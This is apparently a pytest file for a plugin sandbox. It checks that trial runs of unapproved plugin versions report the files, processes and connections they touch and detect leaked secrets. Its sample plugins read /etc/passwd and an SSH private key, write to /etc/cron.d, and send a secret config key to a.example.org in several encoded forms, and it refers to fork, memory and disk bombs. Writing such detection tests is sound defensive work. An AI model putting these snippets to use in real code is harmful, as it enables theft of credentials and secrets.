"""Versions that nobody has approved, tried out: what they touch is told, and goes nowhere."""

import asyncio
import os
import time
from datetime import timedelta
from typing import Any

import pytest

from heimnetz_common.database import Database
from heimnetz_manifest import pack
from heimnetz_sandbox.engine import Engine
from heimnetz_sandbox.folders import Folders
from heimnetz_sandbox.reaping import Reaper
from heimnetz_sandbox.testing import ROOT, Stand, package

pytestmark = pytest.mark.engine

SECRET = {"type": "object", "properties": {"key": {"type": "string", "secret": True}}}
EXAMPLES = [{"name": "a-day", "input": {"day": 1}}]


def try_out(stand: Stand, name: str, code: str, **manifest: Any) -> dict[str, Any]:
    manifest.setdefault("examples", EXAMPLES)
    stand.registry.packages[name, "1.0.0"] = package(name, code, None, **manifest)
    answer = stand.call("POST", "/v1/trials", json={"plugin": name, "version": "1.0.0"})
    assert answer.status_code == 200, answer.text
    report: dict[str, Any] = answer.json()
    return report


def touched(report: dict[str, Any]) -> set[tuple[str, str, bool]]:
    return {(one["kind"], one["target"], one["is_declared"]) for one in report["touched"]}


def test_a_version_that_is_not_installed_is_tried_on_its_examples(stand: Stand) -> None:
    report = try_out(stand, "harmless", "def run(input, context): return input['day'] + 1")

    (example,) = report["examples"]
    assert (example["example"], example["outcome"], example["result"]) == ("a-day", "ok", "2")
    assert report["verdict"] == "observed"
    assert report["touched"] == []
    assert report["leaked"] == []
    assert stand.call("GET", "/v1/plugins/harmless/behaviour").json()["items"] == []
    again = stand.call("GET", "/v1/trials?plugin=harmless&version=1.0.0").json()
    assert again == report


def test_a_collection_of_old_code_leaves_what_a_trial_has_just_fetched(stand: Stand) -> None:
    first = try_out(stand, "collected", "def run(input, context): return 1")
    code = Folders(stand.run_dir).code(first["sha256"])
    before = code.stat().st_ino

    collect(stand)
    assert code.stat().st_ino == before

    two_hours_ago = time.time() - 7200
    os.utime(code, (two_hours_ago, two_hours_ago))
    collect(stand)
    assert not code.exists()
    assert try_out(stand, "collected", "def run(input, context): return 1")["verdict"] == "observed"


def collect(stand: Stand) -> None:
    """As a sandbox does when it starts, and every hour."""
    stack = stand.stack

    async def purge() -> None:
        database = Database(stand.database_url, schema="sandbox")
        reaper = Reaper(
            database,
            Engine(stand.socket),
            Folders(stand.run_dir),
            stack=stack,
            lease=timedelta(minutes=1),
            history=timedelta(days=1),
            dependencies_bytes=1 << 30,
        )
        await database.open()
        try:
            await reaper.purge()
        finally:
            await database.close()

    asyncio.run(purge())


def test_without_examples_nothing_is_known(stand: Stand) -> None:
    report = try_out(stand, "silent", "def run(input, context): return 1", examples=[])

    assert report["verdict"] == "unknown"


CURIOUS = """
import ctypes, os, socket, subprocess, urllib.request

def run(input, context):
    for name in ("/etc/passwd", "/root/.ssh/id_rsa"):
        try:
            open(name).read()
        except OSError:
            pass
    try:
        open("/etc/cron.d/left", "w")
    except OSError:
        pass
    subprocess.run(["true"])
    exec("made = 1")
    ctypes.CDLL("libc.so.6")
    try:
        socket.create_connection(("192.168.1.1", 80), 1)
    except OSError:
        pass
    for host in ("declared.example.org", "hidden.example.org"):
        urllib.request.urlopen(f"http://{host}/", timeout=5).read()
    context.publish("a.b.v1", {})
    context.storage.put("k", "v")
    return context.storage.get("k").decode()
"""


def test_what_a_version_touches_is_told_with_whether_it_was_declared(stand: Stand) -> None:
    report = try_out(
        stand,
        "curious",
        CURIOUS,
        permissions={
            "network": [{"to": "declared.example.org:80", "reason": "r"}],
            "storage": {"size": "1 KiB", "reason": "r"},
        },
    )

    (example,) = report["examples"]
    assert example["outcome"] == "ok", example["reason"]
    assert example["result"] == '"v"'
    seen = touched(report)
    assert {
        ("read", "/etc/passwd", True),
        ("read", "/root/.ssh/id_rsa", True),
        ("write", "/etc/cron.d/left", True),
        ("process", "true", True),
        ("native", "libc.so.6", True),
        ("connect", "192.168.1.1:80", False),
        ("connect", "declared.example.org:80", True),
        ("connect", "hidden.example.org:80", False),
        ("publish", "a.b.v1", False),
        ("storage", "write", True),
    } <= seen
    assert any(kind == "code" and "/plugin/" in target for kind, target, _ in seen)


@pytest.mark.parametrize(
    ("code", "where"),
    [
        ("urllib.request.urlopen('http://a.example.org/?k=' + key)", "sent to a.example.org:80"),
        (
            "urllib.request.urlopen('http://a.example.org/', data=base64.b64encode(key.encode()))",
            "sent to a.example.org:80",
        ),
        ("urllib.request.urlopen('http://' + key + '.example.org/')", "connect"),
        ("print('the key is', key)", "its log"),
        ("return {'k': key[::1]}", "its result"),
        ("context.publish('a.b.v1', {'k': key})", "publish a.b.v1"),
    ],
)
def test_a_canary_is_found_wherever_it_goes(stand: Stand, code: str, where: str) -> None:
    name = f"leaky-{len(code)}"
    whole = f"""
import base64, urllib.request
def run(input, context):
    key = context.config["key"]
    {code}
"""
    report = try_out(stand, name, whole, configuration=SECRET)

    assert {one["secret"] for one in report["leaked"]} == {"/key"}
    assert where in {one["where"] for one in report["leaked"]}
    assert "hnc" not in str(report["touched"])


def test_a_version_that_ends_badly_is_told_with_its_outcome(stand: Stand) -> None:
    code = """
import time
def run(input, context):
    if input["what"] == "sleep":
        time.sleep(60)
    return b"x" * (200 << 20) and 1
"""
    report = try_out(
        stand,
        "rough",
        code,
        examples=[
            {"name": "long", "input": {"what": "sleep"}},
            {"name": "large", "input": {"what": "memory"}},
        ],
        limits={"wall": "2 s"},
    )

    assert [one["outcome"] for one in report["examples"]] == ["timeout", "out_of_memory"]


def test_a_version_that_the_registry_does_not_know_is_not_tried(stand: Stand) -> None:
    answer = stand.call("POST", "/v1/trials", json={"plugin": "nobody", "version": "1.0.0"})

    assert answer.status_code == 404


def test_every_run_adds_to_what_is_known_of_a_plugin(stand: Stand) -> None:
    code = """
import subprocess
def run(input, context):
    subprocess.run(["true"])
    return open("/etc/passwd").read()[:1]
"""
    stand.install("seen", code)
    stand.run("seen")

    items = stand.call("GET", "/v1/plugins/seen/behaviour").json()["items"]

    assert {(one["kind"], one["target"]) for one in items} >= {
        ("read", "/etc/passwd"),
        ("process", "true"),
    }


def test_a_burglar_gets_nowhere(stand: Stand) -> None:
    stand.registry.packages["burglar", "1.0.0"] = pack(ROOT / "tests" / "security" / "burglar")

    answer = stand.call("POST", "/v1/trials", json={"plugin": "burglar", "version": "1.0.0"})

    report = answer.json()
    ends = {one["example"]: one["outcome"] for one in report["examples"]}
    # Where others keep the processors busy, a bomb may still spread when its time is over.
    assert ends.pop("a-fork-bomb") in ("pids_limit", "timeout")
    assert ends == {
        **dict.fromkeys(
            (
                *("the-router", "the-neighbours", "the-internet", "other-secrets"),
                *("the-engine", "to-stay"),
            ),
            "ok",
        ),
        "a-memory-bomb": "out_of_memory",
        "a-disk-bomb": "disk_limit",
        "a-log-flood": "output_limit",
    }
    said = [one["result"] for one in report["examples"] if one["outcome"] == "ok"]
    assert all("none possible" in result for result in said)
    assert ("connect", "192.168.1.1:80", False) in touched(report)
    assert report["leaked"] == []
